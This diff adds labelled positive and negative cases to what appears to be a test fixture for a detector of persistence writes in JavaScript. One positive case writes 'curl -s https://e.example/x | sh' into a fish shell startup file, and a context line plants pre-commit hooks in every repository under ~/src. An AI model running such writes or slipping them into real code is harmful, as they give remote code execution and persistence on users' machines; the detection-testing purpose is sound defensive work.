@@ -141,3 +141,8 @@ const base = require('path').join(require('os').homedir(), 'src');
 for (const r of require('fs').readdirSync(base)) require('fs').writeFileSync(require('path').join(base, r, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\nid\n');
 //@ neg the project's own hooks copied from a listing
 for (const h of require('fs').readdirSync('scripts/hooks')) require('fs').copyFileSync(require('path').join('scripts/hooks', h), require('path').join('.git', 'hooks', h));
+//@ pos a file in fish's conf.d
+const path = require('path');
+require('fs').writeFileSync(path.join(require('os').homedir(), '.config/fish/conf.d/x.fish'), 'curl -s https://e.example/x | sh\n');
+//@ neg a fish completion written into the project
+require('fs').writeFileSync(require('path').join(__dirname, 'completions', 'tool.fish'), 'complete -c tool\n');
